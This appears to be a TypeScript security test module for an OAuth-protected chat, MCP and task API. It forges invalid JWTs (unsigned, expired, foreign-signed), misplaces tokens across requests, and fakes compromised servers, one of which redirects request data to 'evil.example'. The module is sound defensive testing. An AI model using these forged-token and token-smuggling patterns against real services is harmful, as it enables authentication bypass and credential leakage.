// What goes wrong in one run, on purpose: tokens in every place where they do not belong, tokens that are not valid, and servers that echo.

import { connect } from 'node:net'
import { importJWK, SignJWT, UnsecuredJWT } from 'jose'
import { loadKeys } from '../../examples/taskflow/keys.ts'
import { classicUrl, type TaskflowUrls } from '../../examples/taskflow/urls.ts'
import type { House } from '../end-to-end/house.ts'
import { message, type Person } from '../end-to-end/person.ts'
import type { Fault } from '../end-to-end/recording-fetch.ts'

const JSON_BODY = { 'content-type': 'application/json' }
const bearer = (token: string) => ({ authorization: `Bearer ${token}` })

/** Tokens that must not be taken at the chat door, by what is wrong with them. */
export async function refusedTokens(
  house: House,
  others: Readonly<Record<string, string>>,
): Promise<ReadonlyMap<string, string>> {
  const { issuerKey } = await loadKeys(house.dataDir)
  const key = await importJWK({ ...issuerKey }, 'ES256')
  const foreign = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, false, [
    'sign',
    'verify',
  ])
  const claims = (more: object) => ({
    jti: crypto.randomUUID(),
    client_id: 'taskflow-cli',
    scope: 'tasks:read tasks:write',
    gid: crypto.randomUUID(),
    ...more,
  })
  const at = Math.floor(Date.now() / 1000)
  const jwt = (more: object = {}, typ = 'at+jwt') =>
    new SignJWT(claims(more))
      .setProtectedHeader({ alg: 'ES256', typ, kid: issuerKey.kid })
      .setIssuer(house.urls.issuer)
      .setSubject('alice')
      .setAudience(house.urls.chatkit)
      .setIssuedAt(at)
      .setExpirationTime(at + 300)
  const elsewhere = 'https://issuer.example'
  const tokens: readonly (readonly [string, string])[] = [
    [
      'expired',
      await jwt()
        .setIssuedAt(at - 900)
        .setExpirationTime(at - 600)
        .sign(key),
    ],
    [
      'not yet valid',
      await jwt()
        .setNotBefore(at + 600)
        .sign(key),
    ],
    ['not an access token by type', await jwt({}, 'JWT').sign(key)],
    [
      'signed by nobody',
      new UnsecuredJWT(claims({}))
        .setIssuer(house.urls.issuer)
        .setSubject('alice')
        .setAudience(house.urls.chatkit)
        .setExpirationTime(at + 300)
        .encode(),
    ],
    ['signed by somebody else', await jwt().sign(foreign.privateKey)],
    [
      'of the same subject at another issuer',
      await jwt().setIssuer(elsewhere).sign(foreign.privateKey),
    ],
    ['of another issuer, signed with our key', await jwt().setIssuer(elsewhere).sign(key)],
    ['without a subject', await jwt().setSubject('').sign(key)],
    ...Object.entries(others),
  ]
  return new Map(tokens)
}

/** Puts a token wherever it does not belong, at every listener. Gives how many answers were not a refusal. */
export async function misplace(
  house: House,
  token: string,
  person: Person,
): Promise<readonly string[]> {
  const { urls } = house
  const q = encodeURIComponent(token)
  const accepted: string[] = []
  const attempt = async (url: string, options: Parameters<House['visit']>[1] = {}) => {
    const { status, headers } = await house.visit(url, options)
    // Who asks for a sign-in that there is not is sent to the app, with nothing.
    if (status === 303 && headers.location === `${urls.web}/`) return
    if (status < 400)
      accepted.push(`${options.method ?? 'GET'} ${url.replace(q, '<token>')} ${status}`)
  }
  for (const target of [urls.chatkit, urls.mcp, urls.gateway, `${urls.api}/tasks`]) {
    const post = { method: 'POST', headers: JSON_BODY }
    await attempt(`${target}?access_token=${q}`, { ...post, body: '{}' })
    await attempt(`${target}?access_token=${q}`, {
      method: 'POST',
      headers: { ...JSON_BODY, ...bearer(token) },
      body: '{}',
    })
    await attempt(target, {
      method: 'POST',
      headers: { ...JSON_BODY, authorization: `Bearer ${token}, Bearer ${token}` },
      body: '{}',
    })
    await attempt(target, {
      method: 'POST',
      headers: { ...JSON_BODY, authorization: `Bearer ${token} ${token}` },
      body: '{}',
    })
    await attempt(target, {
      method: 'POST',
      headers: {
        ...JSON_BODY,
        authorization: `Basic ${Buffer.from(`x:${token}`).toString('base64')}`,
      },
      body: '{}',
    })
    await attempt(target, {
      method: 'POST',
      headers: { ...JSON_BODY, authorization: token },
      body: '{}',
    })
    await attempt(target, {
      method: 'POST',
      headers: { ...JSON_BODY, cookie: `access_token=${token}` },
      body: '{}',
    })
    await attempt(target, {
      method: 'POST',
      headers: { ...JSON_BODY, 'x-user-id': token, 'x-access-token': token },
      body: JSON.stringify({ access_token: token }),
    })
    await attempt(`${target}/${q}`)
  }
  const own = { ...JSON_BODY, ...bearer(person.token) }
  const chat = (body: string, more: Record<string, string> = {}) =>
    attempt(urls.chatkit, { method: 'POST', headers: { ...own, ...more }, body })
  await chat(`{"access_token":"${token}"`)
  await chat(JSON.stringify({ type: token, params: {} }))
  await chat(
    JSON.stringify({ type: 'threads.get_by_id', params: { thread_id: token.slice(0, 250) } }),
  )
  await chat(
    JSON.stringify({
      type: 'threads.add_user_message',
      params: { thread_id: token.slice(-200), input: message('hi') },
    }),
  )
  await chat(
    JSON.stringify({
      type: 'items.list',
      params: { thread_id: 'thr_1', after: token.slice(-200) },
    }),
  )
  await chat(JSON.stringify({ type: 'threads.list', params: { limit: token } }))
  await chat(JSON.stringify({ type: 'threads.list', params: {} }), { 'x-user-id': token })
  await chat(JSON.stringify({ type: 'threads.list', params: {} }), {
    'content-type': `text/${token.slice(-40)}`,
  })
  await attempt(`${urls.web}/${q}`)
  await attempt(`${urls.web}/.well-known/oauth-protected-resource/${q}`)
  await attempt(`${urls.issuer}/interaction/${q}`)
  await attempt(
    `${urls.issuer}/oauth/authorize?client_id=${q}&redirect_uri=${q}&response_type=${q}&state=${q}`,
  )
  await unreadable(house, token)
  return accepted
}

/** What no HTTP client sends: answered by the listener itself, before any code of ours. */
function unreadable({ urls }: House, token: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = connect(Number(new URL(urls.web).port), '127.0.0.1', () =>
      socket.write(
        `POST /chatkit HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nthis is no header ${token}\r\n\r\n`,
      ),
    )
    socket.on('data', () => undefined)
    socket.on('end', () => socket.end())
    socket.on('close', () => resolve())
    socket.on('error', reject)
  })
}

/** How a server answers that has been taken over, or was written by somebody careless: it repeats what it was sent. */
const echoes: Readonly<Record<string, (sent: string, flat: string, id: unknown) => Response>> = {
  'an exception that quotes the request': (sent) => {
    throw new TypeError(`fetch failed: ${sent}`, { cause: new Error(sent) })
  },
  '500 with the request as text': (sent) => new Response(sent, { status: 500 }),
  '500 with a reason phrase': (_, flat) =>
    new Response(null, { status: 500, statusText: flat.slice(0, 4000) }),
  '400 with an OAuth error': (sent) =>
    Response.json({ error: 'invalid_request', error_description: sent }, { status: 400 }),
  '400 with a JSON-RPC error': (sent, _, id) =>
    Response.json(
      { jsonrpc: '2.0', id, error: { code: -32000, message: sent, data: sent } },
      { status: 400 },
    ),
  '401 with a challenge': (sent, flat) =>
    new Response(sent, {
      status: 401,
      headers: { 'www-authenticate': `Bearer error="invalid_token", error_description="${flat}"` },
    }),
  '403 with a scope': (sent, flat) =>
    new Response(sent, {
      status: 403,
      headers: { 'www-authenticate': `Bearer error="insufficient_scope", scope="${flat}"` },
    }),
  'a redirect to somewhere else': (_, flat) =>
    new Response(null, {
      status: 307,
      headers: { location: `https://evil.example/?q=${encodeURIComponent(flat)}` },
    }),
  '200 with text that is no JSON': (sent) =>
    new Response(sent, { headers: { 'content-type': 'application/json' } }),
  '200 with an event stream of one JSON-RPC error': (sent, flat, id) =>
    new Response(
      `event: message\nid: ${flat}\ndata: ${JSON.stringify({ jsonrpc: '2.0', id, error: { code: -32000, message: sent, data: sent } })}\n\n`,
      {
        headers: { 'content-type': 'text/event-stream' },
      },
    ),
}

/** The parts that can be made to echo, by their requests. The exchanges first: later ones find their tokens in the cache and do not ask. */
const echoing: Readonly<
  Record<string, (urls: TaskflowUrls, request: Parameters<Fault>[0]) => boolean>
> = {
  "the issuer, at the chat endpoint's exchange": ({ issuer }, { url, body }) =>
    url.startsWith(`${issuer}/oauth/token`) && body.includes('client_assertion'),
  "the issuer, at the MCP server's exchange": ({ issuer }, { url, headers }) =>
    url.startsWith(`${issuer}/oauth/token`) && /^Basic /.test(headers.get('authorization') ?? ''),
  'the MCP server': ({ mcp }, { url }) => url === mcp,
  'the MCP server, at tool calls': ({ mcp }, { url, body }) =>
    url === mcp && body.includes('tools/call'),
  'the API': ({ api }, { url }) => url.startsWith(api),
  // What it repeats is the argument that it was called with.
  'TaskFlow classic, at tool calls': (urls, { url, body }) =>
    url === classicUrl(urls) && body.includes('tools/call'),
}

/** Every part in every way; the key says which. */
export function echoFaults({ urls }: House): ReadonlyMap<string, Fault> {
  const faults = Object.entries(echoing).flatMap(([part, is]) =>
    Object.entries(echoes).map(([manner, echo]) => {
      const fault: Fault = (request) => {
        if (!is(urls, request)) return undefined
        const sent = `${request.method} ${request.url} ${[...request.headers].join(' ')} ${request.body}`
        const id = /"id":(\d+|"[^"]*")/.exec(request.body)?.[1] ?? '0'
        return echo(sent, sent.replace(/[^\x21-\x7e]|["\\]/g, ' '), JSON.parse(id))
      }
      return [`${part}: ${manner}`, fault] as const
    }),
  )
  return new Map(faults)
}

// Names are left out in both: of a field, a tool, an argument, a method, a protocol version, and a JSON-RPC id. They are repeated to whoever sent
// them, and to nobody else.

/** Puts a token into every other part of a request to the API that is otherwise in order. */
export async function misuseApi(
  { urls, visit }: House,
  apiToken: string,
  token: string,
): Promise<void> {
  const q = encodeURIComponent(token)
  const headers = { ...JSON_BODY, ...bearer(apiToken) }
  const bodies: readonly unknown[] = [
    { title: token.repeat(20) },
    { title: `a\n${token}` },
    { title: 'x', priority: token },
    { title: 'x', due_date: token },
    { title: 'x', tags: [token.repeat(5)] },
    { title: 'x', access_token: token },
    token,
    [token],
  ]
  for (const body of bodies)
    await visit(`${urls.api}/tasks`, { method: 'POST', headers, body: JSON.stringify(body) })
  await visit(`${urls.api}/tasks`, { method: 'POST', headers, body: `{"title": ${token}` })
  await visit(`${urls.api}/tasks/1`, {
    method: 'PATCH',
    headers,
    body: JSON.stringify({ status: token }),
  })
  for (const query of [`status=${q}`, `sort=${q}`, `limit=${q}`, `access_token=${q}`])
    await visit(`${urls.api}/tasks?${query}`, { headers })
  await visit(`${urls.api}/tasks/${q}`, { headers })
  await visit(`${urls.api}/${q}`, { headers })
}

/** Puts a token into every other part of a request to an MCP server that is otherwise in order. */
export async function misuseMcp(
  { visit }: House,
  url: string,
  mcpToken: string,
  token: string,
): Promise<void> {
  const headers = {
    ...JSON_BODY,
    ...bearer(mcpToken),
    accept: 'application/json, text/event-stream',
  }
  const call = (params: object) => ({ jsonrpc: '2.0', id: 1, method: 'tools/call', params })
  const bodies: readonly unknown[] = [
    call({ name: 'taskflow_start_task', arguments: { task_id: token } }),
    call({ name: 'taskflow_add_task', arguments: { title: 'x', priority: token } }),
    call({ name: 'taskflow_add_task', arguments: { title: 7, access_token: token } }),
    call({ name: 'taskflow_list_tasks', arguments: { status: token, user_id: 'bob' } }),
    call({ name: 'taskflow_list_tasks', arguments: token }),
    call({
      name: 'taskflow_start_task',
      arguments: { user_id: token, access_token: { token }, task_id: 1 },
    }),
    call({
      name: 'taskflow_add_task',
      arguments: { params: { user_id: 'alice', access_token: token, title: token.repeat(9) } },
    }),
    { jsonrpc: '2.0', id: 1, method: 'tools/call', params: token },
    { jsonrpc: token, id: 1, method: 'tools/list' },
    { access_token: token },
  ]
  for (const body of bodies)
    await visit(url, { method: 'POST', headers, body: JSON.stringify(body) })
  await visit(url, { method: 'POST', headers, body: `{"jsonrpc": ${token}` })
  await visit(url, { method: 'GET', headers: { ...headers, 'mcp-session-id': token } })
  await visit(url, { method: 'DELETE', headers: { ...headers, 'mcp-session-id': token } })
}
